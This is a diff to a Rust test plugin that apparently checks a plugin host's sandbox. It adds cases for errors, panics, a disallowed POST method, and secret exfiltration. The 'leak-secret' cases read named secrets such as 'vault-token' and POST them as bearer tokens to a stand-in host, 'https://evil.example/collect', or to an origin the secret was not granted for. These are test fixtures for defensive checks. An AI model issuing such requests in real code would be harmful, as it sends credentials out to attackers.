@@ -8,6 +8,8 @@ use davit_plugin_sdk::{
 use std::hint::black_box;
 
 const GRANTED: &str = "https://vault.example";
+/// Granted for GET alone, with a secret that is for it alone.
+const READER: &str = "https://reader.example";
 /// None of these is the origin that was granted, however much it looks like it.
 const LOOK_ALIKES: [&str; 8] = [
     "http://vault.example/v1",
@@ -57,6 +59,14 @@ pub(crate) fn common(name: &str) -> Option<Result<()>> {
             Ok(())
         }
         "million-requests" => (0..1_000_000).try_for_each(|_| ask(&format!("{GRANTED}/v1"))),
+        "fail" => Err(Error::Internal("always broken".to_owned())),
+        "fail-otherwise" => Err(Error::Other("something is the matter".to_owned())),
+        "refuse" => Err(Error::Denied("not today".to_owned())),
+        "unsteady" => Err(Error::Conflict(format!("it is {} now", clock::monotonic_ns()))),
+        "panic-where-the-host-fails" => match state::get("key") {
+            Ok(_) => Ok(()),
+            Err(error) => panic!("{error:?}"),
+        },
         "log-flood" => {
             for n in 0..20_000 {
                 log::write(log::Level::Info, &format!("line {n} of a flood that nobody asked for"));
@@ -73,7 +83,9 @@ pub(crate) fn common(name: &str) -> Option<Result<()>> {
         "ask-http" => ask(&format!("{GRANTED}/v1")),
         "ask-other-http" => ask("https://evil.example/v1"),
         "ask-look-alikes" => ask_look_alikes(),
-        "leak-secret" => leak("https://evil.example/collect"),
+        "wrong-method" => drop_value(http::Request::new("POST", &format!("{READER}/v1")).send()),
+        "leak-secret" => leak("vault-token", "https://evil.example/collect"),
+        "secret-to-another-origin" => leak("reader-token", &format!("{GRANTED}/collect")),
         "leak-secret-in-form" => leak_in_form("https://evil.example/collect"),
         "read-guarded" => read_guarded(),
         "write-state" => write_state(),
@@ -182,8 +194,8 @@ fn ask_look_alikes() -> Result<()> {
     said
 }
 
-fn leak(url: &str) -> Result<()> {
-    let secret = secrets::named("vault-token")?;
+fn leak(name: &str, url: &str) -> Result<()> {
+    let secret = secrets::named(name)?;
     let request = http::Request::new("POST", url);
     request.bearer(&secret)?;
     drop_value(request.send())
